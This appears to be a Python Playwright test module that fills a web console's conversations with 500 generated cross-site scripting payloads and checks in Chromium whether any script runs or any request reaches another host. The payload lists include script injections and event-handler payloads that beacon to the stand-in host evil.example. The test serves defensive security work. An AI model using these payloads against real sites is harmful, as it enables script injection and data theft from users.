"""Chromium opens the console's pages over 500 hostile payloads, and a stranger tells what was asked of it."""

import http.server
import shutil
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from itertools import product
from pathlib import Path
from typing import Any

from playwright.sync_api import Page, Playwright
from starlette.types import ASGIApp, Receive, Scope, Send

from headrace.app.context import AppContext
from headrace.app.settings import ConsoleSettings
from headrace.console.app import application
from headrace.console.page import Console
from headrace.console.sessions import SessionStore
from headrace.console.sign_in import COOKIE
from headrace.console.users import TrustedProxies, local_user
from headrace.services.sql_server import sql_service
from tests.train.lakes import Session, lake_of
from trajectory.http_server import HttpServer

_SESSIONS = 4
_SETTLES_MS = 700
"""How long a page is looked at after it has loaded."""
_SCRIPTS = (
    "document.title='RAN';fetch('http://evil.example/ran')",
    "new Image().src='http://evil.example/ran';document.title='RAN'",
    "location='http://evil.example/ran'",
    "navigator.sendBeacon('http://evil.example/ran');document.title='RAN'",
    "import('http://evil.example/ran.js');document.title='RAN'",
)
_FORMS = (
    "<script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>", "<img src=x onerror=\"{0}\">",
    "<svg/onload=\"{0}\">", "<svg><script>{0}</script></svg>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "</pre></details></li><script>{0}</script>", "<body onload=\"{0}\">",
    "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<iframe src=\"javascript:{0}\"></iframe>",
    "<details open ontoggle=\"{0}\">", "<input autofocus onfocus=\"{0}\">", "<video src=x onerror=\"{0}\">",
    "<object data=\"javascript:{0}\"></object>", "<marquee onstart=\"{0}\">x</marquee>", "<!--><script>{0}</script>",
    "<math><mtext><script>{0}</script></mtext></math>", "<EMAIL_ADDRESS_ab12cd34><script>{0}</script>",
    "<PERSON_ab12cd34\" onfocus=\"{0}\" autofocus tabindex=0>", "<a href=\"javascript:{0}\" autofocus>x</a>",
    "<select autofocus onfocus=\"{0}\">", "<style onload=\"{0}\"></style>", "<template><script>{0}</script></template>",
    "\u202e<script>{0}</script>", "<scr\x00ipt>{0}</script>", "<![CDATA[<script>{0}</script>]]>",
    "<form><button formaction=\"javascript:{0}\" autofocus>x</button></form>", "<audio src onerror=\"{0}\">",
    "{{{{ '<script>{0}</script>' | safe }}}}", "{{% raw %}}<script>{0}</script>", "<link rel=preload href=x onerror=\"{0}\">",
    "<div hx-get=/ hx-trigger=load hx-on::load=\"{0}\">", "<hx-partial hx-target=body><script>{0}</script></hx-partial>",
    "<p hx-swap-oob=\"outerHTML:#main\"><script>{0}</script></p>",
    "<noscript><p title=\"</noscript><script>{0}</script>\">", "<xmp><p title=\"</xmp><script>{0}</script>\">",
)  # fmt: skip
_LOADS = (
    "<img src={0}>", "<link rel=stylesheet href={0}>", "<style>@import '{0}';</style>", "<script src={0}></script>",
    "<iframe src={0}></iframe>", "<object data={0}></object>", "<embed src={0}>", "<video src={0} autoplay></video>",
    "<base href={0}>", "<meta http-equiv=refresh content='0;url={0}'>", "<link rel=icon href={0}>",
    "<div style=\"background:url({0})\">x</div>", "<svg><image href={0} /></svg>", "<link rel=prefetch href={0}>",
    "<picture><source srcset={0}><img></picture>", "<input type=image src={0}>", "<body background={0}>",
    "<track src={0}>", "<frameset><frame src={0}></frameset>", "<table background={0}><tr><td>x</table>",
)  # fmt: skip
_ASKED = "SELECT parts, position AS \"<img src=x onerror=document.title='RAN'>\" FROM conversation"
_PLACES = tuple(
    f"{scheme}//evil{number}.example/{kind}"
    for scheme, number, kind in product(("http:", ""), range(5), ("a.png", "b.css"))
)


def payloads() -> list[str]:
    """Return 500 texts that would run a script, or ask another host, where they were taken as HTML."""
    made = [form.format(script) for form, script in product(_FORMS, _SCRIPTS)]
    made += [load.format(place) for place, load in product(_PLACES, _LOADS)]
    return made[:500]


@dataclass(frozen=True, slots=True)
class Opened:
    """What came of it."""

    pages: tuple[str, ...]
    """As the browser has them in the end."""
    scripts_run: int
    """Scripts that are not the console's own, pages whose title one changed, and requests that only one makes."""
    foreign_requests: int
    """Requests that reached another host."""


def chromium_path() -> str | None:
    """Return the system's Chromium; None where there is none."""
    return shutil.which("chromium") or shutil.which("chromium-browser")


@contextmanager
def stranger() -> Iterator[tuple[int, list[str]]]:
    """Be another host, to which each name leads; yield its port, and the pages that were asked of it."""
    asked: list[str] = []

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            body = f"<title>no</title>{payloads()[0]}".encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: Any) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port, asked
        server.shutdown()
        thread.join()


@contextmanager
def _served(folder: Path) -> Iterator[str]:
    """Serve a console whose conversations are full of payloads; yield where, to somebody who is signed in."""
    made = payloads()
    sessions = [
        Session(number, question="\n".join(made[number::_SESSIONS]), answer=made[number])
        for number in range(_SESSIONS)
    ]
    lake_of(folder / "lake", *sessions)
    running = AppContext(folder, debug=False)
    running.home.create()
    service = sql_service(running.settings, running.home, running.secrets, running.lake)
    store = SessionStore(running.home.sessions, idle_seconds=900, longest_seconds=900)
    console = Console(running, service, store, TrustedProxies(ConsoleSettings()))
    app = _signed_in(application(console), f"{COOKIE}={store.begin(local_user('root'))}".encode())
    with closing(console), HttpServer(app, host="127.0.0.1", port=0) as server:
        yield f"http://127.0.0.1:{server.port}"


def open_hostile_pages(folder: Path, chromium: str, playwright: Playwright) -> Opened:
    """Open each conversation, as such and by its steps, Review, and SQL; all in one browser.

    What Review has next and what SQL answers come into a page that is open, as the console's script lets them.

    Raises:
        AssertionError: this browser runs no script where a page lets it, so that it would show nothing.
    """
    pages: list[str] = []
    titles: list[str] = []
    places = [
        f"/trajectories/t{number:05d}{view}"
        for number, view in product(range(_SESSIONS), ("", "?view=steps"))
    ]
    with stranger() as (port, asked), _served(folder) as url:
        rules = f"--host-resolver-rules=MAP *.example 127.0.0.1:{port}"
        browser = playwright.chromium.launch(
            executable_path=chromium, args=["--no-sandbox", "--disable-quic", rules]
        )
        page = browser.new_page()
        page.set_default_timeout(240_000)
        scripts = _scripts_of(page)
        page.goto("http://control.example/")
        page.wait_for_function("() => document.title === 'RAN'")
        while "/ran" not in asked:
            page.wait_for_timeout(50)
        page.goto("about:blank")
        page.wait_for_timeout(_SETTLES_MS)
        assert any("control.example" in place for place in scripts), "the browser tells what runs"
        asked.clear()
        scripts.clear()

        def look() -> None:
            page.wait_for_timeout(_SETTLES_MS)
            titles.append(page.title())
            pages.append(page.content())

        for place in (*places, "/review", "/compare?one=t00001&other=t00002"):
            page.goto(f"{url}{place}")
            look()
        page.goto(f"{url}/review?focus=1")
        first = page.locator("input[name=trajectory]").input_value()
        page.get_by_role("button", name="Skip").click()
        page.locator(f"input[name=trajectory]:not([value='{first}'])").wait_for(state="attached")
        look()
        page.goto(f"{url}/sql")
        page.locator("#query").fill(_ASKED)
        page.get_by_role("button", name="Run").click()
        page.locator(".chart > .uplot").hover()
        look()
        browser.close()
        strange = [place for place in scripts if not place.startswith(f"{url}/static/")]
        assert len(scripts) > len(strange), "the console's own scripts run"
        ran = titles.count("RAN") + sum(path.startswith("/ran") for path in asked) + len(strange)
        return Opened(tuple(pages), ran, len(asked))


def _scripts_of(page: Page) -> list[str]:
    """Return where each script comes from that a page's own world runs from now on; the list grows."""
    found: list[str] = []

    def parsed(script: dict[str, Any]) -> None:
        if script.get("executionContextAuxData", {}).get("isDefault"):
            found.append(script["url"])

    session = page.context.new_cdp_session(page)
    session.on("Debugger.scriptParsed", parsed)
    session.send("Debugger.enable")
    return found


def _signed_in(app: ASGIApp, cookie: bytes) -> ASGIApp:
    """Return an application that whoever asks is signed in to."""

    async def signed_in(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            scope = {**scope, "headers": [*scope["headers"], (b"cookie", cookie)]}
        await app(scope, receive, send)

    return signed_in
